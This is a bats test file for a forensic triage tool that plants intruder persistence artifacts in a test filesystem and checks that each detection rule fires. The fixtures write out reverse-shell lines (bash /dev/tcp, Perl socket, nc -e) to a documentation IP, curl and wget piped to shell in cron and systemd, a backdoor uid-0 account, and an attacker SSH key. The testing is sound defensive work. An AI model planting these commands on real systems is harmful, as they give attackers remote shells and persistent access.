# plant.bats - what an intruder leaves in a dead system is found, by the rule
# that is meant to find it and by no other of its tier.
#
# shellcheck shell=bash disable=SC1091,SC2016,SC2030,SC2031,SC2154
. "$BATS_TEST_DIRNAME/lib.sh"

key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIxQaJ9kVRnwqcZ9KbZyQmVrxnFQOYx7aZB1bUe5V6pR'

setup() {
	root=$dir/$BATS_TEST_NUMBER
	small_root "$root"
}

teardown() {
	rm -rf --one-file-system "$root" "$root".*
}

@test "plant/nothing: an intact small root" {
	judge "$root"
	[ "$collect_status" -eq 0 ]
	[ "$analyze_status" -eq 0 ]
	[ "$(verdict)" = 'nothing found' ]
	[ -z "$(found respond)$(found watch)" ]
	event '.event.dataset == "sshd" and .user.name == "hana" and
		.source.ip == "192.0.2.10" and .event.outcome == "success"'
	event '.event.dataset == "utmp" and .user.name == "hana"'
	event '.file.path == "/usr/bin/ls" and .konseki.macb'
}

@test "plant/cron: a network shell in a job of cron" {
	echo '*/5 * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' \
		>"$root/etc/cron.d/sync"
	judge "$root"
	responds persist_network_shell.yml
	[ "$(verdict)" = respond ]
	event '.konseki.autorun.mechanism == "cron" and .user.name == "root" and
		.konseki.source == "/etc/cron.d/sync" and
		.event.kind == "state"'
	grep -q '/etc/cron.d/sync' "$case_file.verdict"
}

@test "plant/crontab: a network shell in a user's crontab" {
	mkdir -p "$root/var/spool/cron/crontabs"
	printf '%s\n' '# m h dom mon dow command' \
		'@reboot perl -MSocket -e '"'"'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'"'" \
		>"$root/var/spool/cron/crontabs/hana"
	judge "$root"
	responds persist_network_shell.yml
	event '.konseki.autorun and .user.name == "hana"'
}

@test "plant/systemd: a unit that fetches and runs" {
	mkdir -p "$root/etc/systemd/system/multi-user.target.wants"
	cat >"$root/etc/systemd/system/netcheck.service" <<-'EOT'
	[Unit]
	Description=Network check

	[Service]
	ExecStart=/bin/sh -c "curl -fsSL http://203.0.113.7/i.sh | bash"
	Restart=always

	[Install]
	WantedBy=multi-user.target
	EOT
	ln -s ../netcheck.service \
		"$root/etc/systemd/system/multi-user.target.wants/"
	judge "$root"
	responds persist_fetch_and_run.yml
	event '.konseki.autorun.mechanism // "" | startswith("systemd")'
}

@test "plant/rc: a network shell in rc.local and in a user's rc file" {
	printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444 &\nexit 0\n' \
		>"$root/etc/rc.local"
	chmod 755 "$root/etc/rc.local"
	echo '(bash -i >& /dev/tcp/203.0.113.7/53 0>&1 &)' \
		>"$root/home/hana/.bashrc"
	judge "$root"
	responds persist_network_shell.yml
	event '.konseki.autorun and .konseki.source == "/etc/rc.local"'
	event '.konseki.autorun and .konseki.source == "/home/hana/.bashrc"'
}

@test "plant/preload: ld.so.preload names a library of no package" {
	cp "$root/usr/bin/ls" "$root/usr/lib/libsystem.so.1"
	echo /usr/lib/libsystem.so.1 >"$root/etc/ld.so.preload"
	judge "$root"
	responds persist_ld_so_preload_unpackaged.yml
	event '.konseki.autorun.target == "/usr/lib/libsystem.so.1" and
		.konseki.autorun.target_unpackaged'
	# and the library itself was taken along
	"$konseki" extract "$archive" 'files/usr/lib/*' -o "$root.out" -q
	cmp "$root/usr/lib/libsystem.so.1" \
		"$(find "$root.out" -name libsystem.so.1)"
}

@test "plant/uid0: a second account with uid 0" {
	echo 'support:x:0:0::/root:/bin/bash' >>"$root/etc/passwd"
	judge "$root"
	responds account_second_uid0.yml
	event '.user.name == "support" and .user.id == "0" and
		.konseki.account.shell == "/bin/bash"'
	grep -q 'support' "$case_file.verdict"
}

@test "plant/key: a key under a service account" {
	mkdir -p "$root/var/www/.ssh"
	echo "$key kali@kali" >"$root/var/www/.ssh/authorized_keys"
	judge "$root"
	responds persist_key_service_account.yml
	event '.user.name == "www-data" and .konseki.account.service and
		(.konseki.autorun.mechanism // "" | contains("authorized_keys"))'
}

@test "plant/suid: an interpreter with the set-user-id bit" {
	cp "$(readlink -f "$(command -v bash)")" "$root/usr/bin/python3.11"
	chmod 4755 "$root/usr/bin/python3.11"
	judge "$root"
	responds file_suid_interpreter.yml
	event '.file.path == "/usr/bin/python3.11" and .konseki.file.setuid and
		.file.mode == "4755"'
}

@test "plant/modified: a packaged program differs from its package" {
	printf 'x' | dd of="$root/usr/bin/ls" bs=1 seek=2000 conv=notrunc \
		status=none
	judge "$root"
	responds file_core_program_modified.yml
	event '.file.path == "/usr/bin/ls" and
		.konseki.file.package_state == "modified"'
	grep -q '/usr/bin/ls' "$case_file.verdict"
}

@test "plant/brute force, then success" {
	for i in $(seq 40); do
		at=$(date -u -d "-5 hours +$((i * 7)) seconds" '+%b %e %H:%M:%S')
		echo "$at planted sshd[$((900 + i))]: Failed password for hana from 198.51.100.23 port $((40000 + i)) ssh2"
	done >>"$root/var/log/auth.log"
	at=$(date -u -d "-5 hours +300 seconds" '+%b %e %H:%M:%S')
	echo "$at planted sshd[999]: Accepted password for hana from 198.51.100.23 port 40099 ssh2" \
		>>"$root/var/log/auth.log"
	judge "$root"
	responds login_guessed.yml
	event '.source.ip == "198.51.100.23" and .event.outcome == "success"'
	[ "$(jq -c 'select(.source.ip == "198.51.100.23" and
		.event.outcome == "failure" and .event.dataset == "sshd")' \
		"$case_file.events" | wc -l)" -eq 40 ]
	jq -e 'select(.tier == "respond") | .subject |
		contains("198.51.100.23")' "$case_file.findings"
}

@test "plant/brute force without a success is a note at most" {
	for i in $(seq 40); do
		at=$(date -u -d "-5 hours +$((i * 7)) seconds" '+%b %e %H:%M:%S')
		echo "$at planted sshd[$((900 + i))]: Failed password for hana from 198.51.100.23 port $((40000 + i)) ssh2"
	done >>"$root/var/log/auth.log"
	judge "$root"
	[ -z "$(found respond)$(found watch)" ]
}

@test "plant/wtmp: a record overwritten with zeros, and a file of zeros" {
	{
		cat "$root/var/log/wtmp"
		echo zero | "$plant/utmp"
		echo "user 900 pts/1 hana 192.0.2.10 $(ago 20 %s)" |
			"$plant/utmp"
	} >"$root.wtmp"
	cp "$root.wtmp" "$root/var/log/wtmp"
	judge "$root"
	[ "$(found watch)" = 'watch login_record_wiped.yml' ]
	[ "$(verdict)" = watch ]
	event '.konseki.utmp.type == "ZEROED" and
		.konseki.source == "/var/log/wtmp"'
	event '.event.dataset == "utmp" and .process.pid == 900'
	head -c 3840 /dev/zero >"$root/var/log/wtmp"
	rm "$archive" "$case_file"
	judge "$root"
	[ "$(verdict)" != 'nothing found' ]
}

@test "plant/exit status: --fail-on of what was found" {
	echo 'support:x:0:0::/root:/bin/bash' >>"$root/etc/passwd"
	judge "$root"
	[ "$analyze_status" -eq 0 ]
	run "$konseki" analyze -q "$archive" -o "$root.1.case" --fail-on respond
	[ "$status" -eq 1 ]
	sed -i '/^support:/d' "$root/etc/passwd"
	rm "$archive" "$case_file"
	judge "$root"
	run "$konseki" analyze -q "$archive" -o "$root.2.case" --fail-on watch
	[ "$status" -eq 0 ]
}

@test "plant/debian: all of it in a Debian root, each found once" {
	need_root
	debian_root
	rm -rf "$root"
	cp -a "$debian" "$root"
	echo 'support:x:0:0::/root:/bin/bash' >>"$root/etc/passwd"
	mkdir -p "$root/var/backups/.ssh"
	echo "$key root@kali" >"$root/var/backups/.ssh/authorized_keys"
	mkdir -p "$root/var/www/.ssh"
	echo "$key root@kali" >"$root/var/www/.ssh/authorized_keys"
	printf 'x' | dd of="$root/usr/sbin/sshd" bs=1 seek=5000 conv=notrunc \
		status=none
	cp "$root/usr/bin/bash" "$root/usr/local/bin/bash"
	cp "$root/usr/bin/bash" "$root/usr/lib/update"
	chmod 4755 "$root/usr/lib/update" "$root/usr/local/bin/bash"
	cp "$root/lib/x86_64-linux-gnu/libz.so.1" "$root/usr/lib/libkeep.so" ||
		cp "$root/usr/bin/ls" "$root/usr/lib/libkeep.so"
	echo /usr/lib/libkeep.so >"$root/etc/ld.so.preload"
	echo '0 3 * * * root wget -qO- http://203.0.113.7/a | sh' \
		>"$root/etc/cron.d/popularity"
	cat >"$root/etc/systemd/system/dbus-helper.service" <<-'EOT'
	[Service]
	ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'
	[Install]
	WantedBy=multi-user.target
	EOT
	mkdir -p "$root/etc/systemd/system/multi-user.target.wants"
	ln -s /etc/systemd/system/dbus-helper.service \
		"$root/etc/systemd/system/multi-user.target.wants/"
	judge "$root"
	responds account_second_uid0.yml persist_key_service_account.yml \
		file_core_program_modified.yml file_suid_interpreter.yml \
		persist_ld_so_preload_unpackaged.yml \
		persist_fetch_and_run.yml \
		persist_network_shell.yml
	found watch | grep -qx 'watch file_suid_unpackaged.yml'
	[ "$(jq -r 'select(.rule.file | endswith("core_program_modified.yml"))
		| .count' "$case_file.findings")" = 1 ]
	event '.file.path == "/usr/sbin/sshd" and
		.konseki.file.package_state == "modified" and
		.package.name == "openssh-server"'
	note "debian: $(wc -l <"$case_file.events") events," \
		"$(count_of respond) respond, $(count_of watch) watch," \
		"$(count_of note) note"
}
